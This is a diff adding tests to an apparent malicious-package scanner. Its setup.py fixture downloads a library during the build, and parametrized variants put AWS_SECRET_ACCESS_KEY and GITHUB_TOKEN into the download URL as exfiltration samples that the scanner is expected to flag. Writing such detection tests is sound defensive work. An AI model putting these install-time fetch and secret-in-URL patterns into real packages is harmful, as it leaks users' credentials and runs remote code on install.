@@ -3988,3 +3988,54 @@ def test_decoded_content_written_to_a_text_file_is_not_a_mere_download():
     """
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/grab.py": module})
     assert severities(result, "intent.drop-payload") == {"medium"}
+
+
+# -- a build's target triple, and a branch chosen by a variable, carry no secret ----------------
+
+_ASSET = """
+import os
+from urllib.request import urlopen
+from setuptools import setup
+from setuptools.command.build_py import build_py
+
+REPO = "https://github.com/demo/libdemo/releases/download/v1.0"
+
+
+def asset_name():
+    dynamic = "dynamic-" if os.environ.get("LIBDEMO_DYNAMIC") else ""
+    triple = os.environ.get("LIBDEMO_ZIG_TRIPLE") or "x86_64-linux-gnu"
+    return f"libdemo-{{dynamic}}{{triple}}.so"
+
+
+class Build(build_py):
+    def run(self):
+        with urlopen({url}) as response, open("demo/libdemo.so", "wb") as f:
+            f.write(response.read())
+        build_py.run(self)
+
+
+setup(name="demo", cmdclass={{"build_py": Build}})
+"""
+
+
+def test_a_build_fetching_its_library_for_the_target_triple_sends_no_secret():
+    """scrapli: setup.py downloads its prebuilt library named by the Zig target triple and a
+    "dynamic-" marker chosen by a variable: a download at install (high, as any), not
+    exfiltration (it was malicious)."""
+    result = scan(
+        {"setup.py": _ASSET.format(url='f"{REPO}/{asset_name()}"'), "demo/__init__.py": ""}
+    )
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict == "suspicious"  # a build's download stays worth blocking
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "f\"{REPO}/{asset_name()}?k={os.environ.get('AWS_SECRET_ACCESS_KEY')}\"",
+        'f"{REPO}/" + (os.environ["GITHUB_TOKEN"] if asset_name() else "")',  # a branch's value
+    ],
+)
+def test_a_secret_in_the_address_of_a_build_download_is_still_sent(url):
+    result = scan({"setup.py": _ASSET.format(url=url), "demo/__init__.py": ""})
+    assert severities(result, "intent.exfiltration") == {"critical"}
